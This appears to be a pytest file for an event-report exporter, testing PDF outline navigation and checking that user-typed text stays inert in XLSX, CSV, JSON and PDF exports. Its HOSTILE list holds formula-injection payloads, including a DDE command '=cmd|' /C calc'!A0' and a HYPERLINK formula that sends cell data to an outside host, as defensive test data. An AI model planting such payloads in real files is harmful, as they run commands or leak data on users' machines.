"""The event report as files: its PDF can be walked through by its outline, and no typed text does anything in any format."""

import csv
import io
import json
import re
import shutil
import subprocess
import zipfile
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import timedelta
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest
from openpyxl import load_workbook

from eventdesk.reports import EXPORTERS
from eventdesk.reports.attendance import NoShow, SlotFact
from eventdesk.reports.document import ReportDocument, Value
from eventdesk.reports.event_facts import CaseCount, EarlierEvent, EventFacts, GiftFact, MoneyFacts, VolunteerFacts
from eventdesk.reports.event_report import build
from eventdesk.reports.exporters import json as json_format
from eventdesk.reports.phrases import headline, say, word
from resources.words import LANGUAGES, Words
from tests.reports.made import SLOTS, START, ZONE, crowd
from tests.reports.made import facts as came
from tests.reports.test_satisfaction import facts as said
from tests.reports.test_satisfaction import rated, slot

HOSTILE = (
    '=HYPERLINK("http://example.invalid/?"&A1,"开")', "+1", "@SUM(A1:A9)", "-2+3", "\t=1+1", '他说"好"', "一行\n又一行", "\r=1",
    "＝1+1", "'=1", "#REF!", "<b>&lt;", "a,b;c", "=cmd|' /C calc'!A0", '","=1+1', "</t><f>1+1</f>", "\x07=1+1",
)  # fmt: skip


def event(texts: tuple[str, ...] = ("普通",)) -> ReportDocument:
    """A whole event report in which everything that somebody typed is one of these texts, each of which is a partner and a gift."""

    def text(number: int) -> str:
        return texts[number % len(texts)]

    # Everybody comes through a door that somebody named.
    attendance = came(
        tuple(one._replace(station=text(number)) if one.station else one for number, one in enumerate(crowd(60))),
        organisation=text(0), event_title=text(1), venue=text(2),
        no_shows=tuple(NoShow(one, "138****0001", 1, 1, (text(3),)) for one in texts),
        slots=(*SLOTS, *(SlotFact(f"H{number}", one, 30, SLOTS[0].unit) for number, one in enumerate(texts))),
    )  # fmt: skip
    satisfaction = said(
        rated("q0", text(4), 20, 15, 5), *(rated(f"q{number}", one, 9, 9) for number, one in enumerate(texts, start=1)),
        slots=tuple(slot(number, one) for number, one in enumerate(texts)), event_title=text(1),
    )  # fmt: skip
    return build(
        EventFacts(
            attendance=attendance, satisfaction=satisfaction, volunteers=VolunteerFacts(8, 12, 10, 1, 2, 900, recorded=True),
            money=MoneyFacts(4, 1, 50_000, 40_000, 30_000, 25_000, 5_000),
            earlier=tuple(
                EarlierEvent(f"E{number}", one, START - timedelta(days=30 * (number + 1)), (20, 40), 22, (18, 20), 4.5)
                for number, one in enumerate(texts[:3])
            ),
            computed_at=START + timedelta(days=1), revision=1, persons_goal=100,
            gifts=tuple(GiftFact(one, one, number % 2 == 0, 2_000, 1_000) for number, one in enumerate(texts)),
            cases=(CaseCount("complaint", 2, 1), CaseCount("low_score", 3, 3)),
        )
    )  # fmt: skip



def made(document: ReportDocument, key: str, folder: Path, language: str = "zh") -> Path:
    export = next(one.export for one in EXPORTERS if one.key == key)
    return export(document, folder=folder, words=Words(language), zone=ZoneInfo(ZONE), name=document.stem)


def held(document: ReportDocument) -> Iterator[str]:
    """Every text of the document's tables."""
    return (value for table in document.tables for row in table.rows for value in row if isinstance(value, str))


def readable(text: Value) -> str:
    """What a workbook can hold of a text: its XML has no control characters and one kind of line break."""
    return re.sub("[\x00-\x08\x0b\x0c\x0e-\x1f]", "", str(text)).replace("\r\n", "\n").replace("\r", "\n")


# -- the outline of the PDF


@dataclass(frozen=True)
class Entry:
    """An entry of an outline: how deep it stands, what it is called, and the object of the page that it leads to."""

    level: int
    title: str
    page: int


def outline(file: Path) -> list[Entry]:
    """The outline of a PDF, walked from its root as a reader does (ISO 32000-1, 12.3.3)."""
    objects = {int(number): body for number, body in re.findall(rb"(\d+) 0 obj\s(.*?)endobj", file.read_bytes(), re.S)}
    catalogue = next(body for body in objects.values() if b"/Type /Catalog" in body)
    assert b"/PageMode /UseOutlines" in catalogue, "shown when the file is opened"

    def link(body: bytes, name: bytes) -> int | None:
        found = re.search(rb"/" + name + rb" (\d+) 0 R", body)
        return None if found is None else int(found[1])

    def walk(number: int | None, level: int) -> Iterator[Entry]:
        while number is not None:
            body = objects[number]
            title, page = re.search(rb"/Title \(((?:\\.|[^\\)])*)\)", body, re.S), re.search(rb"/Dest \[ (\d+) 0 R /XYZ", body)
            assert title is not None and page is not None
            yield Entry(level, _text(title[1]), int(page[1]))
            yield from walk(link(body, b"First"), level + 1)
            number = link(body, b"Next")

    root = link(catalogue, b"Outlines")
    assert root is not None
    return list(walk(link(objects[root], b"First"), 0))


def _text(written: bytes) -> str:
    """A string as a PDF writes it, with octal and other escapes."""
    plain = {b"n": b"\n", b"r": b"\r", b"t": b"\t", b"b": b"\b", b"f": b"\f"}

    def one(found: re.Match[bytes]) -> bytes:
        said = found[1]
        return bytes([int(said, 8)]) if said.isdigit() else plain.get(said, said)

    whole = re.sub(rb"\\([0-7]{1,3}|.)", one, written, flags=re.S)
    return whole[2:].decode("utf-16-be") if whole.startswith(b"\xfe\xff") else whole.decode("latin-1")


@pytest.mark.parametrize("language", LANGUAGES)
def test_the_outline_leads_to_every_section_table_and_chart(language: str, tmp_path: Path) -> None:
    document, words = event(), Words(language)
    file = made(document, "pdf", tmp_path, language)
    found = outline(file)
    tables = [word(f"table_{one.table}", words) for one in document.layout.listings]
    assert [one.title for one in found if one.level == 0] == [headline(document, words), *tables, word("table_figures", words)]
    assert sorted(one.title for one in found if one.level == 1) == sorted(say(one.title, words) for one in document.charts)
    assert {one.level for one in found} == {0, 1} and len(tables) == len(set(tables)) > 5
    if language == "en":
        assert not re.search("[\u3400-\u9fff]", "".join(tables)), "no Chinese in the English names of tables"


@pytest.mark.skipif(shutil.which("pdftotext") is None, reason="poppler-utils are not installed")
@pytest.mark.parametrize("language", LANGUAGES)
def test_each_entry_leads_to_the_page_of_its_heading(language: str, tmp_path: Path) -> None:
    file = made(event(), "pdf", tmp_path, language)
    (kids,) = re.findall(rb"/Kids \[([^]]*)\]", file.read_bytes())
    pages = [int(number) for number in re.findall(rb"(\d+) 0 R", kids)]
    tool = shutil.which("pdftotext")
    assert tool is not None
    texts = subprocess.run([tool, "-raw", str(file), "-"], capture_output=True, check=True).stdout.decode().split("\f")
    entries = [one for one in outline(file) if one.level == 0]
    for one in entries:
        assert re.sub(r"\s+", "", one.title) in re.sub(r"\s+", "", texts[pages.index(one.page)]), one.title
    assert [one.page for one in entries] == sorted((one.page for one in entries), key=pages.index)
    assert len({one.page for one in entries}) > 1


def test_the_outline_holds_hostile_titles_as_text(tmp_path: Path) -> None:
    texts = ("集市) /Next 1 0 R (", "\\(a\\", "x" * 300)
    found = outline(made(event(texts), "pdf", tmp_path))
    assert texts[1] in found[0].title
    assert len(found) == len(outline(made(event(), "pdf", tmp_path)))


# -- texts that would like to do something


@pytest.mark.parametrize("language", LANGUAGES)
def test_nothing_that_somebody_typed_runs_in_a_workbook(language: str, tmp_path: Path) -> None:
    document, words = event(HOSTILE), Words(language)
    file = made(document, "xlsx", tmp_path, language)
    with zipfile.ZipFile(file) as parts:
        sheets = [parts.read(name).decode() for name in parts.namelist() if "/worksheets/sheet" in name]
        assert not any("externalLink" in name for name in parts.namelist())
    assert sheets and not [sheet for sheet in sheets if re.search(r"<f[ >/]|<hyperlink", sheet)]
    book = load_workbook(file)
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert {cell.data_type for cell in cells} <= {"s", "n", "d"}
    partners = book[word("table_partners", words)]
    rows = list(partners.iter_rows(min_row=2))
    assert [(row[0].value, row[1].value) for row in rows] == [(readable(one), readable(one)) for one in HOSTILE]
    for row in rows:
        for cell in row[:2]:
            risky = str(cell.value).startswith(("=", "+", "-", "@", "\t", "\n", "＝"))
            assert cell.data_type == "s" and (bool(cell.quotePrefix) or not risky), cell.value
    written = {cell.value for cell in cells if cell.data_type == "s"}
    assert {readable(one) for one in HOSTILE} <= written


@pytest.mark.parametrize("language", LANGUAGES)
def test_nothing_that_somebody_typed_runs_in_csv(language: str, tmp_path: Path) -> None:
    document = event(HOSTILE)
    text = made(document, "csv", tmp_path, language).read_bytes().decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert {len(row) for row in rows} == {5}, "no text ends its cell or its row"
    assert [row[0].removeprefix("'") for row in rows[1:]] == [figure.key for figure in document.figures]
    numbers = re.compile(r"-?\d+(\.\d+)?(e-?\d+)?")
    for cell in (cell for row in rows for cell in row):
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n", "＝")) or numbers.fullmatch(cell), cell


def test_json_holds_every_text_as_it_was_typed(tmp_path: Path) -> None:
    document = event(HOSTILE)
    text = made(document, "json", tmp_path).read_text(encoding="utf-8")
    assert json_format.proves_itself(text)
    body = json.loads(text)
    assert [(gift["partner"], gift["title"]) for gift in body["partners"]] == [(one, one) for one in HOSTILE]
    assert [one["title"] for one in body["earlier"]] == list(HOSTILE[:3])
    assert set(body["attendance"]["by_station"]) == set(HOSTILE)


@pytest.mark.parametrize("language", LANGUAGES)
def test_a_pdf_prints_them_and_does_nothing(language: str, tmp_path: Path) -> None:
    file = made(event(HOSTILE), "pdf", tmp_path, language)
    content = file.read_bytes()
    assert not re.search(rb"/(JavaScript|JS|Launch|URI|SubmitForm|OpenAction|AA|EmbeddedFile)\b", content)
    tool = shutil.which("pdftotext")
    if tool is not None:
        text = subprocess.run([tool, "-raw", str(file), "-"], capture_output=True, check=True).stdout.decode()
        for one in ("+1", "@SUM(A1:A9)", "<b>&lt;", "#REF!", "</t><f>1+1</f>"):
            assert one in re.sub(r"\s+", "", text), one


def test_the_same_hostile_texts_make_the_same_bytes(tmp_path: Path) -> None:
    assert event(HOSTILE).canonical() == event(HOSTILE).canonical()
    assert set(HOSTILE) <= set(held(event(HOSTILE)))
